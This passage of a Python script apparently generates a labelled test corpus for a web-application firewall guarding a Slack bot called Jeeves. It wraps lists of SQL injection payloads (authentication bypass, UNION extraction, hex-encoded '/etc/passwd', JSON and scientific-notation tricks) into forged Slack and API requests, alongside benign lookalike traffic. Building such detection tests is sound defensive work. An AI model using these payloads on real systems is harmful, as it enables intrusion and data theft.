    ("sqli", "sqli-comment-seq", "SQL Comment Sequence Detected", [
        "admin'--",
        "1 /* comment */",
        "x'#",
        "';--",
        "1--+",
        "/**/",
        "abc';-- -",
    ]),
    ("sqli", "sqli-hex", "SQL Hex Encoding Identified", [
        "0x61646d696e",
        "SELECT 0x2f6574632f706173737764",
        "x'61646d696e'",
        "unhex('61646d696e')",
        "WHERE name=0x726f6f74",
        "0X3C3F706870",
    ]),
    ("sqli", "sqli-backtick", "SQLi bypass attempt by ticks or backticks detected", [
        "`username`='admin'",
        "select `name` from `users`",
        "'`",
        "`or`1`=`1",
        "x` or 1=1 -- ",
        "`; drop table `x",
        "\u00b4 or 1=1 --",
    ]),
    # ---------------------------------------------------------------- sqli (4.x)
    ("sqli", "sqli-json-operators", "JSON-Based SQL Injection (4.x)", [
        "' or json_extract('{\"a\":1}','$.a')=1--",
        "1 AND '{\"a\":1}'::jsonb @> '{\"a\":1}'",
        "' OR JSON_LENGTH('[]')=0-- ",
        "data->>'role' = 'admin' OR 1=1",
        "' or json_keys('{}') is null#",
        "' UNION SELECT JSON_ARRAYAGG(name) FROM users--",
        "1 or '{}' <@ '{}'::jsonb",
        "x' and json_valid('{}')-- ",
    ]),
    ("sqli", "sqli-scientific", "MySQL Scientific Notation payload detected (4.x)", [
        "1.e(ascii(1))",
        "1e0union select 1",
        "' or 1.e1=1.e1#",
        "1.0e0union select user()",
        "' 1.e('') or 1=1-- ",
        "1e1AND 1=1",
        "2.e(1)or 1=1",
    ]),
    ("sqli", "sqli-split-auth", "SQL Authentication bypass (split query) (4.x)", [
        "'/*",
        "*/or '1'='1",
        "admin'/* */--",
        "*/ OR 1=1 #",
        "x'/* ... */ or 'a'='a",
        "'; /*",
        "*/--",
    ]),
    ("sqli", "sqli-auth-bypass-4", "Detects basic SQL authentication bypass attempts 4/4 (4.x)", [
        "' or 1=1 limit 1 offset 0--",
        "admin' AND 1=1#",
        "' || '1'='1",
        "' or 0=0 #",
        "\" or 0=0 --",
        "') or ('1'='1'--",
        "'=0--+",
    ]),
]

# ---------------------------------------------------------------------------------------------- placements

EVENT_LEADS = [
    "lookup user {p}",
    "<@U0BOTID> lookup user {p}",
    "weather {p}",
    "<@U0BOTID> weather {p}",
    "ticket title: {p}",
    "<@U0BOTID> ticket title: {p}",
    "remind me {p}",
    "<@U0BOTID> remind me {p} at 5pm",
    "search {p}",
    "<@U0BOTID> search {p}",
    "can you check {p} ?",
    "<@U0BOTID> can you check {p} ?",
    "what does {p} mean",
    "what does `{p}` mean??",
    "fyi: {p}",
    "fyi: `{p}`",
    "`{p}`",
    "<@U0BOTID> `{p}`",
    "search `{p}` :eyes:",
    "lookup user {p} :pray:",
    "hey jeeves lookup user {p}!!",
    "<@U0BOTID> is {p} a valid username?",
    "{p}",
    "{p} :joy:",
    "pls search {p}",
    "ticket title: {p} (urgent)",
    "jeeves search {p}?",
    "weird, the bot echoed {p} back to me :thinking_face:",
    "```{p}```",
    "<@U0BOTID> remind me to look at {p}",
    "remind me tomorrow: {p}",
    "weather {p} pls :sunny:",
    "<@U0BOTID> lookup user \"{p}\"",
    "why does search {p} return nothing?",
    "ok try this one: {p}",
    "<@U0BOTID> ticket title: bug - {p}",
    "anyone seen {p} before?",
    "<@U0BOTID> {p}",
    "search for {p} in #support :pray:",
    "lookup user {p}.",
]
COMMAND_LEADS = [
    "lookup user {p}",
    "weather {p}",
    "ticket title: {p}",
    "remind me {p}",
    "search {p}",
    "search \"{p}\"",
    "lookup user {p} --verbose",
    "ticket title: [prod] {p}",
    "remind me in 10 minutes {p}",
    "weather {p} tomorrow",
    "{p}",
    "help {p}",
    "search `{p}`",
    "lookup {p}",
]
JSON_FIELDS = ["name", "display_name", "bio", "title", "city", "search", "email", "status_text"]
BROWSER_UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 "
    "Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
]
TEAM = "T04JVS7Q2"
APP = "A05JEEVES1"
TEAM_DOMAIN = "acme-corp"
USERS = [("U04KQ8N2M1A", "dana.r"), ("U03ZZ1B7PQ9", "mo.ahmed"), ("U05H2C4D6E8", "siobhan"),
         ("U02AB3CD4EF", "jlee"), ("U06XY7Z8W9V", "priya.n"), ("U01QR2ST3UV", "tomas")]
CHANNELS = [("C04SUPPORT1", "support", "channel"), ("C02GENERAL9", "general", "channel"),
            ("C05ENGCHAT3", "eng-chat", "channel"), ("G01PRIVOPS4", "ops-private", "group"),
            ("D07DIRECT55", "directmessage", "im")]
MODALS = [("ticket_modal", "New ticket", "title_block", "title_input"),
          ("lookup_modal", "Look up a user", "name_block", "name_input"),
          ("reminder_modal", "New reminder", "reminder_block", "reminder_text"),
          ("weather_modal", "Weather", "city_block", "city_input")]
BUTTONS = [("lookup_user", "Look up"), ("search_again", "Search again"), ("confirm_ticket", "Create ticket"),
           ("snooze_reminder", "Snooze"), ("weather_refresh", "Refresh")]

SLACK = "slack-event"
COMMAND = "slack-command"
INTERACTION = "slack-interaction"
QUERY = "query"
JSON = "json"
# payloads per title -> (slack events, slash commands); one each of interaction, query and json on top
SHARES = {6: [(2, 1)], 7: [(3, 1), (2, 2)], 8: [(3, 2)], 9: [(4, 2)]}


class Slack:
    """The pieces of Slack's requests, drawn from one seeded random source."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)
        self.n = 0

    def next(self) -> int:
        self.n += 1
        return self.n

    def hexs(self, k: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(k))

    def headers(self, content_type: str, forged: bool) -> dict[str, str]:
        n = self.n
        sig = self.hexs(64) if forged else "0" * 64
        return {"User-Agent": SLACK_UA, "Accept": "*/*", "Accept-Encoding": "gzip,deflate",
                "Content-Type": content_type, "X-Slack-Request-Timestamp": str(EPOCH + 7 * n),
                "X-Slack-Signature": "v0=" + sig}

    def event(self, text: str, blocks: bool, forged: bool) -> dict[str, Any]:
        n = self.next()
        user, _ = self.rng.choice(USERS)
        channel, _, ctype = self.rng.choice(CHANNELS)
        mention = text.startswith(f"<@{BOT}>")
        if mention and ctype == "im":
            channel, ctype = "C04SUPPORT1", "channel"
        ts = f"{EPOCH + 7 * n}.{(n * 7919) % 1000000:06d}"
        event: dict[str, Any] = {"type": "app_mention" if mention else "message", "user": user, "text": text,
                                 "ts": ts, "channel": channel, "channel_type": ctype, "event_ts": ts}
        if blocks:
            elements: list[dict[str, Any]] = []
            rest = text
            if mention:
                elements.append({"type": "user", "user_id": BOT})
                rest = text[len(f"<@{BOT}>"):]
            elements.append({"type": "text", "text": rest})
            event["blocks"] = [{"type": "rich_text", "block_id": self.hexs(5),
                                "elements": [{"type": "rich_text_section", "elements": elements}]}]
        body = {"token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "team_id": TEAM, "api_app_id": APP, "event": event,
                "type": "event_callback", "event_id": f"Ev0{self.hexs(9).upper()}", "event_time": EPOCH + 7 * n,
                "authorizations": [{"team_id": TEAM, "user_id": BOT, "is_bot": True}]}
        return {"method": "POST", "uri": "/slack/events", "body": json.dumps(body, ensure_ascii=False),
                "headers": self.headers("application/json", forged)}

    def command(self, text: str, forged: bool) -> dict[str, Any]:
        self.next()
        user, uname = self.rng.choice(USERS)
        channel, cname, _ = self.rng.choice(CHANNELS)
        fields = [("token", "Jhj5dZrVaK7ZwHHjRyZWjbDl"), ("team_id", TEAM), ("team_domain", TEAM_DOMAIN),
                  ("channel_id", channel), ("channel_name", cname), ("user_id", user), ("user_name", uname),
                  ("command", "/jeeves"), ("text", text), ("api_app_id", APP), ("is_enterprise_install", "false"),
                  ("response_url", f"https://hooks.slack.com/commands/{TEAM}/{self.rng.randrange(10**12)}/"
                                   f"{self.hexs(24)}"),
                  ("trigger_id", f"{self.rng.randrange(10**12)}.{self.rng.randrange(10**12)}.{self.hexs(32)}")]
        return {"method": "POST", "uri": "/slack/commands", "body": urllib.parse.urlencode(fields),
                "headers": self.headers("application/x-www-form-urlencoded", forged)}

    def interaction(self, value: str, forged: bool, modal: bool) -> dict[str, Any]:
        n = self.next()
        user, uname = self.rng.choice(USERS)
        team = {"id": TEAM, "domain": TEAM_DOMAIN}
        who = {"id": user, "username": uname, "name": uname, "team_id": TEAM}
        trigger = f"{self.rng.randrange(10**12)}.{self.rng.randrange(10**12)}.{self.hexs(32)}"
        doc: dict[str, Any]
        if modal:
            callback, title, block, action = self.rng.choice(MODALS)
            values: dict[str, Any] = {block: {action: {"type": "plain_text_input", "value": value}}}
            if callback == "ticket_modal":
                values["priority_block"] = {"priority": {"type": "static_select", "selected_option": {
                    "text": {"type": "plain_text", "text": "Normal"}, "value": "normal"}}}
            doc = {"type": "view_submission", "team": team, "user": who, "api_app_id": APP,
                   "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl", "trigger_id": trigger,
                   "view": {"id": f"V0{self.hexs(9).upper()}", "team_id": TEAM, "type": "modal",
                            "callback_id": callback, "private_metadata": "", "title": {"type": "plain_text",
                                                                                      "text": title},
                            "state": {"values": values}, "hash": f"{EPOCH + n}.{self.hexs(8)}",
                            "app_id": APP, "bot_id": "B05JEEVES2"},
                   "response_urls": [], "is_enterprise_install": False}
        else:
            action_id, label = self.rng.choice(BUTTONS)
            channel, cname, _ = self.rng.choice(CHANNELS)
            ts = f"{EPOCH + 7 * n}.{(n * 104729) % 1000000:06d}"
            doc = {"type": "block_actions", "user": who, "api_app_id": APP, "token": "Jhj5dZrVaK7ZwHHjRyZWjbDl",
                   "container": {"type": "message", "message_ts": ts, "channel_id": channel, "is_ephemeral": True},
                   "trigger_id": trigger, "team": team, "channel": {"id": channel, "name": cname},
                   "response_url": f"https://hooks.slack.com/actions/{TEAM}/{self.rng.randrange(10**12)}/"
                                   f"{self.hexs(24)}",
                   "actions": [{"action_id": action_id, "block_id": self.hexs(4),
                                "text": {"type": "plain_text", "text": label, "emoji": True}, "value": value,
                                "type": "button", "action_ts": f"{EPOCH + 7 * n + 3}.{self.hexs(6)}"}]}
        body = urllib.parse.urlencode([("payload", json.dumps(doc, ensure_ascii=False))])
        return {"method": "POST", "uri": "/slack/interactions", "body": body,
                "headers": self.headers("application/x-www-form-urlencoded", forged)}


def browser_headers(rng: random.Random, extra: dict[str, str] | None = None) -> dict[str, str]:
    h = {"User-Agent": rng.choice(BROWSER_UAS), "Accept": "application/json, text/plain, */*",
         "Accept-Language": rng.choice(["en-US,en;q=0.9", "en-GB,en;q=0.8", "de-DE,de;q=0.9,en;q=0.7"])}
    return {**h, **(extra or {})}


def api_query(rng: random.Random, q: str, page: int, extra: dict[str, str] | None = None) -> dict[str, Any]:
    qs = urllib.parse.urlencode([("q", q), ("page", str(page))], quote_via=urllib.parse.quote, safe="")
    return {"method": "GET", "uri": "/api/users?" + qs, "body": "", "headers": browser_headers(rng, extra)}


def api_json(rng: random.Random, doc: dict[str, Any], extra: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": "POST", "uri": "/api/users", "body": json.dumps(doc, ensure_ascii=False),
            "headers": {**browser_headers(rng, extra), "Content-Type": "application/json",
                        "Origin": "https://app.example.com"}}


def plan(t: int, k: int) -> list[str]:
    """Where the payloads of the t-th title go: all five placements, the rest to events and commands."""
    shares = SHARES[k]
    ev, cmd = shares[t % len(shares)]
    places = [INTERACTION, QUERY, JSON] + [SLACK] * ev + [COMMAND] * cmd
    random.Random(7500 + t).shuffle(places)
    return places


def attacks() -> Iterator[dict[str, Any]]:
    slack = Slack(75)
    rng = random.Random(7575)
    n = 0
    for t, (category, sub, _title, payloads) in enumerate(TITLES):
        # off-domain Referer for the one title that names it (browser placements only)
        extra = {"Referer": "https://promo.attacker.example/landing"} if sub == "sessionid-offdomain" else None
        for place, p in zip(plan(t, len(payloads)), payloads, strict=True):
            n += 1
            if place == SLACK:
                text = rng.choice(EVENT_LEADS).replace("{p}", p)
                req = slack.event(text, blocks=rng.random() < 0.35, forged=True)
            elif place == COMMAND:
                req = slack.command(rng.choice(COMMAND_LEADS).replace("{p}", p), forged=True)
            elif place == INTERACTION:
                req = slack.interaction(p, forged=True, modal=rng.random() < 0.6)
            elif place == QUERY:
                req = api_query(rng, p, rng.randint(1, 5), extra)
            else:
                field = rng.choice(JSON_FIELDS)
                doc = {field: p, "locale": "en-US"} if field != "email" else {"email": p}
                req = api_json(rng, doc, extra)
            yield {**req, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                   "placement": place, "payload": p}


# ---------------------------------------------------------------------------------------------- benign

NAMES = [
    "Siobhán O'Neil", "José Álvarez", "Zoë Kravitz-Lee", "Dmitri O'Connor", "Ann-Marie Smith", "Jean-Luc D'Arcy",
    "Li Wei", "Ngozi Okafor", "Björn Ågren", "Mary-Kate van der Berg", "Renée Dubois", "O'Brien", "McDonald",
    "Priya Natarajan", "Tomás Ó Ceallaigh", "Kim Min-jun", "Oluwaseun (Seun) Adeyemi", "dana.r", "@mo.ahmed",
    "j.doe+test@example.com", "Chloé", "Émile", "Nguyễn Văn An", "Şebnem", "Marc-André St-Pierre",
    "Robert Tables", "Drew Union", "Sam Select", "Kat Echo", "Ada Lovelace",
]
CITIES = [
    "São Paulo", "Zürich", "St. John's", "Washington, D.C.", "New York", "Kraków", "Frankfurt am Main",
    "Reykjavík", "Xi'an", "Coeur d'Alene", "Halifax, NS", "Sleepy Hollow, NY", "Bengaluru", "Winston-Salem",
    "L'Aquila", "'s-Hertogenbosch", "Ho Chi Minh City", "Saint-Étienne", "Truth or Consequences, NM",
    "Union City", "Alert Bay", "Cat Island", "Echo, Oregon", "München", "Dublin 2", "Tel Aviv-Yafo",
    "Port-au-Prince", "Bad Homburg v.d.H.", "Nuuk", "Santa Cruz de Tenerife",
]
TICKETS = [
    "Login page 500s when email has a + sign",
    "Can't select 'All' in the export dropdown (again)",
    "CSV export: commas inside quotes break columns",
    "\"Reset password\" link expires too fast",
    "Search returns nothing for names with apostrophes, e.g. O'Neil",
    "Dark mode: <code> blocks are unreadable",
    "Bot replies twice to `remind me` in threads",
    "Timezone off by 1h after DST (Europe/Berlin)",
    "Upload fails for files > 25MB",
    "<script> shows up as text in the release notes",
    "Union dues field missing from the payroll form",
    "'Order by' dropdown ignores the date column",
    "Alert emails sent at 3am - please batch them",
    "Update the /etc/hosts entry on the staging build box",
    "Cat photos in #random don't preview",
    "Page 2 of /api/users?page=2 returns page 1",
    "Sleep mode on kiosk tablets kills the bot session",
    "Typo: 'recieve' -> 'receive' on signup",
    "Link unfurl shows <title> tags raw",
    "Exec summary PDF won't open on iOS 17",
    "Weather for Zürich shows Zurich, Kansas :sweat_smile:",
    "Jeeves: `lookup user` fails for names with & in them",
    "SSO: \"invalid state\" after clicking Back",
    "Drop shadow on modal buttons cut off in Safari",
    "Select-all checkbox selects hidden rows too",
    "[urgent] VPN drops every 30 min (Kraków office)",
    "Ticket #4521 - duplicate of #4498?",
    "API rate limit 429s during the 9:00 standup rush",
    "Null pointer in the admin export job (see logs)",
    "Rename 'System' group to 'Platform'",
]
REMINDERS = [
    "to review PR #412 at 3pm",
    "to call Siobhán about the Zürich offsite",
    "in 20 minutes: standup",
    "tomorrow 9am - renew the TLS cert for status.example.com",
    "every Friday to export the union dues report",
    "to run `make test && make lint` before merging",
    "to drop the temp table after the migration",
    "to update /etc/hosts on the build box",
    "next Tuesday: 1:1 with Priya",
    "at 17:30 to pick up the cat from the vet",
    "to sleep before midnight for once :sleeping:",
    "to select the lunch order by 11",
    "on the 1st to submit expenses (receipts > $25)",
    "in 2h to check if the deploy alert cleared",
    "to send the exec update - bullet points only",
    "to ask IT why `sudo apt update` hangs",
    "to water the plants & feed the fish",
    "in 1 week: \"quarterly access review\"",
    "to rotate the on-call schedule (cc @dana.r)",
    "at 8 to book the room for the All Hands",
]
TERMS = [
    "onboarding checklist", "vacation policy 2024", "\"select all\" shortcut", "order by date", "how to reset 2FA",
    "union station parking", "drop-in hours", "cat sitter recommendations", "script for the all-hands",
    "alert fatigue retro", "exec offsite agenda", "system design interview rubric", "1:1 notes template",
    "Q3 OKRs", "error 500 on /api/users", "where is the wifi password for guests", "benefits & perks",
    "O'Reilly subscription", "holiday calendar (DE)", "who owns the include-what-you-use config",
    "python vs. java style guide", "expense limit > $500", "parental leave", "on-call runbook", "sleep pods",
    "coffee machine", "passwd reset for contractors", "VPN split tunnel", "javascript style guide", "SQL training",
]
CODES = [
    "`SELECT id, email FROM users WHERE team_id = 42 ORDER BY created_at DESC LIMIT 20;`",
    "`kubectl -n jeeves logs deploy/jeeves --since=1h | grep -i error`",
    "`git rebase -i HEAD~3`",
    "`npm ci && npm run lint`",
    "`docker compose logs -f gateway`",
    "`curl -sS https://status.example.com/api/v2/summary.json | jq '.status'`",
    "`ls -la ~/projects/jeeves`",
    "`tail -n 200 /var/log/jeeves/bot.log`",
    "`export NODE_ENV=production`",
    "`echo $PATH`",
    "`cat README.md | head -20`",
    "`python3 -m venv .venv && source .venv/bin/activate`",
    "`const user = await lookupUser(name);`",
    "`if (err) { return res.status(500).json({ error: err.message }); }`",
    "`<b>bold</b>` (use `*bold*` in Block Kit instead)",
    "`{{ ticket.title }}`",
    "`${user.name}`",
    "`UPDATE tickets SET status = 'closed' WHERE id = 1234;`",
    "`DROP INDEX IF EXISTS idx_users_email;`",
    "`select count(*) from reminders where fired = false`",
    "`sleep 30; make smoke`",
    "`os.path.join(BASE_DIR, '..', 'static')`",
    "`<script>` tags getting stripped by the sanitizer",
    "`onClick={() => setOpen(true)}`",
    "`document.getElementById('search').focus()`",
    "`window.location.href = '/tickets/new'`",
    "`php artisan migrate --force`",
    "`mvn -q -DskipTests package`",
    "`java -jar jeeves-admin.jar --port 8081`",
    "`Runtime.getRuntime().availableProcessors()`",
    "`grep -rn \"TODO\" src/ | wc -l`",
    "`SELECT name FROM cities WHERE name LIKE 'San%'`",
    "`../config/settings.yaml`",
    "`%APPDATA%\\Slack\\logs`",
    "`pip install -r requirements.txt`",
]
LINKS = [
    "<https://docs.example.com/jeeves/commands|Jeeves commands>",
    "<https://github.com/acme/jeeves/pull/412>",
    "<https://status.example.com/incidents/7781|status page>",
    "<https://calendar.example.com/event?eid=abc123&tz=Europe/Berlin|calendar invite>",
    "<https://www.php.net/manual/en/function.system.php>",
    "<https://owasp.org/www-community/attacks/xss/|OWASP XSS page>",
    "<https://en.wikipedia.org/wiki/SQL_injection>",
    "<https://example.atlassian.net/browse/OPS-1234|OPS-1234>",
    "<https://drive.example.com/file/d/1AbC/view?usp=sharing>",
    "<https://maps.example.com/?q=Union+Station,+Washington,+DC>",
    "<https://weather.example.com/forecast/z%C3%BCrich>",
    "<https://grafana.example.com/d/abc/gateway?orgId=1&from=now-6h&to=now>",
    "<mailto:help@example.com|help@example.com>",
    "<https://jira.example.com/secure/CreateIssue.jspa?pid=10000>",
    "<http://localhost:3000/admin/users|local admin>",
    "<https://nodejs.org/api/child_process.html>",
    "<https://logging.apache.org/log4j/2.x/security.html|log4j security page>",
    "<https://www.youtube.com/watch?v=dQw4w9WgXcQ>",
]
CHAT = [
    "jeeves is down again? it didn't answer my lookup",
    "thanks jeeves :pray:",
    "lol the bot said it's 31°C in Zürich",
    "who taught the bot to reply with gifs",
    "the reminder fired twice, known bug?",
    "can someone with admin select all the stale tickets and close them",
    "union meeting moved to Thursday, room 4.12",
    "drop me a DM if you need the runbook",
    "I'll exec the migration after standup",
    "the system status page says all green",
    "cat pics in #random, as promised",
    "sleep well everyone, see you Monday",
    "alert: coffee machine on the 3rd floor is broken",
    "script for the demo is in the drive, v3 is final-final",
    "order by priority, then by date please",
    "OR we could just ask Jeeves",
    "1:1s are moved to Wednesday",
    "the passwd reset flow for contractors goes through IT",
    "echo that, +1",
    "ping me when the build is green",
    "where's the lookup history stored? asking for the GDPR export",
    "ticket titles can't be longer than 120 chars, FYI",
    "etc. etc., you get the idea",
    "the weather command uses Celsius, any way to switch?",
    "search is case-insensitive now, thanks Priya!",
    "is the bot's source on GitHub? want to add a joke command",
    "remind me doesn't understand 'next Tuesday' yet",
    "Jeeves, you're a star",
    "does anyone know the wifi for the Kraków office?",
    "select your lunch option by 11 in the form",
    "please don't paste prod data in here",
    "the include path thing was a false alarm",
    "O'Neil's farewell drinks on Friday, 6pm",
    "the php upgrade is scheduled for next sprint",
    "my shell prompt broke after the zsh update",
    "who owns the /api/users endpoint these days?",
    "the bot returned 'user not found' for José, accent issue?",
    "function names in the new SDK are camelCase",
    "exec team offsite agenda is up",
    "it's 50/50 whether the train is on time",
    "does the bot log what we type? (asking for a friend)",
    "the Java 21 upgrade went fine, no more warnings",
    "our on-call rota: Mon-Wed Dana, Thu-Sun Mo",
    "can Jeeves do timezones? e.g. 'remind me at 9 PST'",
    "the union of both lists is in the sheet, tab 2",
    "ping @here if the VPN drops again",
    "window cleaners on Tuesday, close the blinds",
    "the cookie banner text needs legal review",
    "sessions expire after 12h now, you'll be logged out once",
    "we deleted the old user table backups, as planned",
    "document.pdf was too big for Slack, sharing via Drive",
    "function over form, but both would be nice",
    "I put the select query in the runbook",
    "the shell script runs nightly at 02:00 UTC",
    "weekly sync: Tuesdays 10:00 CET / 09:00 UK",
    "thanks all - ticket closed, root cause was a stale DNS entry",
    "happy birthday Ngozi!! :tada:",
    "the alert threshold is 95% CPU for 5 min",
    "who broke the build? (it was me, fixing now)",
    "the new office in São Paulo opens in March",
]
CHAT_WITH_MARKUP = [
    "<!here> Jeeves will be restarted at 18:00 for the upgrade",
    "see <#C05ENGCHAT3|eng-chat> for the details",
    "<@U05H2C4D6E8> can you take this one?",
    "anyone else getting `ECONNRESET` from the bot? <https://status.example.com|status> is green",
    "docs for the commands: <https://docs.example.com/jeeves/commands|here> & the FAQ",
    "R&D sync moved to 3pm <@U02AB3CD4EF>",
    "use `a < b && b > c` in the filter, it works now",
    "the template uses `<%= user.name %>`, not Jinja",
    "fixed the `<select>` in the ticket form, dropdown works again",
    "try `SELECT * FROM tickets WHERE title LIKE '%VPN%'` in the read replica",
    "the regex `^[A-Za-z' -]+$` rejects Zoë :(",
    "`curl -X POST https://api.example.com/v1/reminders -d '{\"text\":\"hi\"}'` returns 201",
    "wrote up the incident: <https://docs.example.com/postmortems/2024-06-12|postmortem>",
    "cc <@U06XY7Z8W9V> <@U01QR2ST3UV> for the Q&A on Friday",
]
EVENT_TEMPLATES = [
    ("lookup user {}", NAMES), ("<@U0BOTID> lookup user {}", NAMES), ("lookup user {} pls", NAMES),
    ("weather {}", CITIES), ("<@U0BOTID> weather {} this weekend?", CITIES), ("weather {} :umbrella:", CITIES),
    ("ticket title: {}", TICKETS), ("<@U0BOTID> ticket title: {}", TICKETS),
    ("remind me {}", REMINDERS), ("<@U0BOTID> remind me {}", REMINDERS),
    ("search {}", TERMS), ("<@U0BOTID> search {}", TERMS), ("jeeves search {}?", TERMS),
    ("can you check {} ?", CODES), ("what does {} mean", CODES), ("fyi: {}", CODES), ("{}", CODES),
    ("fyi: {}", LINKS), ("{} :eyes:", LINKS), ("<@U0BOTID> can you summarize {}", LINKS),
    ("{}", CHAT), ("<@U0BOTID> {}", CHAT), ("{}", CHAT_WITH_MARKUP),
]
COMMAND_TEMPLATES = [
    ("lookup user {}", NAMES), ("lookup {}", NAMES), ("weather {}", CITIES), ("weather {} tomorrow", CITIES),
    ("ticket title: {}", TICKETS), ("remind me {}", REMINDERS), ("search {}", TERMS), ("search \"{}\"", TERMS),
    ("search {}", CODES), ("help", [""]), ("help remind", [""]),
]
MARKUP = re.compile(r"(<(?:@|#|!|https?://|mailto:)[^<>]*>)")


def slackify(text: str) -> str:
    """Text as Slack sends it: &, < and > escaped, except in Slack's own mention, channel and link markup."""
    out = []
    for part in MARKUP.split(text):
        if MARKUP.fullmatch(part):
            out.append(part.replace("&", "&amp;"))
        else:
            out.append(part.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;"))
    return "".join(out)


def _cycle(pools: dict[int, int], pool: list[str]) -> str:
    """The next item of `pool` (each pool keeps its own place, so every item comes up in turn)."""
    i = pools.get(id(pool), 0)
    pools[id(pool)] = i + 1
    return pool[i % len(pool)]


BIOS = [
    "Support lead in Kraków. Ask me about the ticket queue or the best pierogi.",
    "Backend dev; I break the build so you don't have to.",
    "Java & Kotlin, occasionally PHP. He/him.",
    "On-call Mon-Wed. DMs open, but please use /jeeves ticket first.",
    "SQL nerd: SELECT coffee FROM kitchen WHERE fresh = true",
    "Ex-sysadmin; still type `ls` in every window.",
    "Product design, São Paulo. Cat person :cat:",
    "Data eng. Union of three teams since the reorg.",
    "Writes the runbooks nobody reads. Read them.",
    "QA: I file the tickets with titles like \"Can't select 'All' (again)\".",
    "Security team - please don't paste tokens in #general.",
    "Frontend: React, a little Angular, too much CSS.",
    "Finance ops; expenses > $500 go through me.",
    "Working from Zürich, UTC+1/+2.",
    "Recruiting. Tell your friends we're hiring!",
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    slack = Slack(7501)
    rng = random.Random(7502)
    pools: dict[int, int] = {}

    def rec(kind: str, placement: str, req: dict[str, Any]) -> dict[str, Any]:
        nonlocal n
        n += 1
        return {**req, "id": f"{NAME}-{kind}-{n:04d}", "category": "benign", "placement": placement, "sub": kind}

    for i in range(330):
        template, pool = EVENT_TEMPLATES[i % len(EVENT_TEMPLATES)]
        text = slackify(template.replace("{}", _cycle(pools, pool)))
        yield rec("slack", SLACK, slack.event(text, blocks=rng.random() < 0.35, forged=False))
    for i in range(200):
        template, pool = COMMAND_TEMPLATES[i % len(COMMAND_TEMPLATES)]
        text = slackify(template.replace("{}", _cycle(pools, pool)).strip())
        yield rec("command", COMMAND, slack.command(text, forged=False))
    modal_pools = [TICKETS, NAMES, REMINDERS, CITIES, TERMS]
    for i in range(90):
        pool = modal_pools[i % len(modal_pools)]
        modal = i % 3 != 2
        yield rec("modal" if modal else "action", INTERACTION,
                  slack.interaction(_cycle(pools, pool), forged=False, modal=modal))
    search_pools = [NAMES, TERMS, CITIES]
    for i in range(90):
        q = _cycle(pools, search_pools[i % len(search_pools)]).lstrip("@")
        yield rec("search", QUERY, api_query(rng, q, 1 + i % 4))
    for i in range(90):
        doc = {"name": NAMES[i % len(NAMES)], "display_name": NAMES[(i * 7) % len(NAMES)].split(" ")[0],
               "city": CITIES[(i * 11) % len(CITIES)], "title": rng.choice(["Engineer", "Support lead", "PM",
                                                                           "Designer", "QA", "Ops & Infra"]),
               "bio": BIOS[i % len(BIOS)], "status_text": rng.choice(["In a meeting", "Lunch :sandwich:",
                                                                      "OOO until Mon", "Focus time", ""])}
        yield rec("profile", JSON, api_json(rng, doc))


if __name__ == "__main__":
    print_records(attacks(), benign())
